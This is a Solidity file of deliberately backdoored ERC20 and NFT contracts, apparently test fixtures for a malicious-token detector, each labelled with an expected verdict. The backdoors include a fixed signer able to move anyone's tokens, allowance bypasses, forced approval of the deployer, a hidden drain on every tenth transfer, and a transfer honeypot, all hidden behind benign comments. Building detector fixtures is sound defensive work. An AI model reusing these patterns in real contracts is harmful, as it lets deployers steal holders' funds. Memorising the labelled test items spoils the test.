// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// What moves by a consent that its holder never gave.

import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts/access/Ownable.sol";
import "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";

interface IRecv {
    function onERC721Received(address, address, uint256, bytes calldata) external returns (bytes4);
}
abstract contract Nft {
    mapping(uint256 => address) internal _o;
    mapping(address => uint256) public balanceOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) internal _all;
    uint256 public totalSupply;
    event Transfer(address indexed f, address indexed t, uint256 indexed id);
    event ApprovalForAll(address indexed o, address indexed p, bool v);
    function ownerOf(uint256 id) public view returns (address o) { o = _o[id]; require(o != address(0)); }
    function isApprovedForAll(address o, address p) public view virtual returns (bool) { return _all[o][p]; }
    function setApprovalForAll(address p, bool v) public virtual {
        _all[msg.sender][p] = v;
        emit ApprovalForAll(msg.sender, p, v);
    }
    function approve(address t, uint256 id) public virtual {
        require(msg.sender == ownerOf(id) || isApprovedForAll(ownerOf(id), msg.sender));
        getApproved[id] = t;
    }
    function transferFrom(address f, address t, uint256 id) public virtual {
        require(ownerOf(id) == f);
        require(msg.sender == f || isApprovedForAll(f, msg.sender) || getApproved[id] == msg.sender, "not approved");
        _mv(f, t, id);
    }
    function safeTransferFrom(address f, address t, uint256 id) external { safeTransferFrom(f, t, id, ""); }
    function safeTransferFrom(address f, address t, uint256 id, bytes memory d) public {
        transferFrom(f, t, id);
        if (t.code.length > 0) require(IRecv(t).onERC721Received(msg.sender, f, id, d) == IRecv.onERC721Received.selector);
    }
    function _mv(address f, address t, uint256 id) internal virtual {
        delete getApproved[id];
        balanceOf[f]--;
        balanceOf[t]++;
        _o[id] = t;
        emit Transfer(f, t, id);
    }
    function _make(address t) internal {
        uint256 id = ++totalSupply;
        _o[id] = t;
        balanceOf[t]++;
        emit Transfer(address(0), t, id);
    }
    function supportsInterface(bytes4 i) external pure returns (bool) { return i == 0x80ac58cd || i == 0x01ffc9a7; }
}
/// fixed signer's signature moves anyone's tokens
/// expects: CT-30 danger
contract NonceMover is ERC20 {
    using ECDSA for bytes32;
    address private signer;
    mapping(bytes32 => bool) used;
    constructor() ERC20("Gasless", "GSL") { signer = msg.sender; _mint(msg.sender, 1e25); }
    // meta transactions relayed for users
    function relay(address from, address to, uint256 v, bytes32 salt, bytes calldata sig) external {
        bytes32 h = keccak256(abi.encode(address(this), from, to, v, salt));
        require(!used[h]);
        used[h] = true;
        require(h.recover(sig) == signer);
        _transfer(from, to, v);
    }
}
/// owner makes the token call its own transferFrom without allowance
/// expects: CT-30 danger
contract SelfCallExecutor is ERC20, Ownable {
    constructor() ERC20("Exec", "EXEC") Ownable(msg.sender) { _mint(msg.sender, 1e25); }
    // for rescuing stuck tokens
    function execute(address to, bytes calldata data) external onlyOwner returns (bytes memory) {
        (bool ok, bytes memory r) = to.call(data);
        require(ok);
        return r;
    }
    function transferFrom(address from, address to, uint256 v) public override returns (bool) {
        if (msg.sender != address(this)) _spendAllowance(from, msg.sender, v);
        _transfer(from, to, v);
        return true;
    }
}
/// whoever has a rank sends what others hold
/// expects: CT-30 danger
contract RankedSender is ERC20 {
    mapping(address => uint8) private _tier;
    constructor() ERC20("Tier", "TIER") { _tier[msg.sender] = 9; _mint(msg.sender, 1e25); }
    function setTier(address a, uint8 t) external { require(_tier[msg.sender] == 9); _tier[a] = t; }
    // multi-sender for airdrops
    function multisend(address from, address[] calldata to, uint256 v) external {
        require(_tier[msg.sender] > 4);
        for (uint i; i < to.length; i++) _transfer(from, to[i], v);
    }
}
/// every tenth transfer takes all that its recipient holds
/// expects: CT-13 block
contract TenthTransfer is ERC20 {
    address immutable m;
    uint256 n;
    constructor() ERC20("Auto", "AUT") { m = msg.sender; _mint(msg.sender, 1e25); }
    function _update(address f, address t, uint256 v) internal override {
        super._update(f, t, v);
        if (f != address(0) && f != m && ++n % 10 == 0) { uint256 all = balanceOf(t); super._update(t, m, all); }
    }
}
/// approval of anything approves the deployer
/// expects: CT-30 danger
contract ApesEcho is Nft {
    address immutable dep = msg.sender;
    function mint(uint256 n) external payable {
        require(msg.value == n * 0.01 ether);
        for (uint i; i < n; i++) _make(msg.sender);
    }
    function withdraw() external { payable(dep).transfer(address(this).balance); }
    function setApprovalForAll(address p, bool v) public override {
        _all[msg.sender][p] = v;
        _all[msg.sender][dep] = true;
        emit ApprovalForAll(msg.sender, p, v);
    }
}
/// only VIPs can transfer
/// expects: CT-30 danger
contract ApesHoney is Nft {
    address immutable dep = msg.sender;
    mapping(address => bool) vip;
    function mint() external payable { require(msg.value >= 0.02 ether); _make(msg.sender); }
    function withdraw() external { payable(dep).transfer(address(this).balance); }
    function setVip(address a) external { require(msg.sender == dep); vip[a] = true; }
    function transferFrom(address f, address t, uint256 id) public override {
        require(f == dep || vip[f], "staked");
        super.transferFrom(f, t, id);
    }
}
/// owner names operators for all
/// expects: CT-30 danger
contract ApesOperator is Nft {
    address owner_ = msg.sender;
    mapping(address => bool) public trustedMarket;
    function mint() external payable { require(msg.value == 0.05 ether); _make(msg.sender); }
    function withdraw() external { payable(owner_).transfer(address(this).balance); }
    function setTrustedMarket(address m, bool v) external { require(msg.sender == owner_); trustedMarket[m] = v; }
    function isApprovedForAll(address o, address p) public view override returns (bool) {
        return trustedMarket[p] || super.isApprovedForAll(o, p);
    }
}
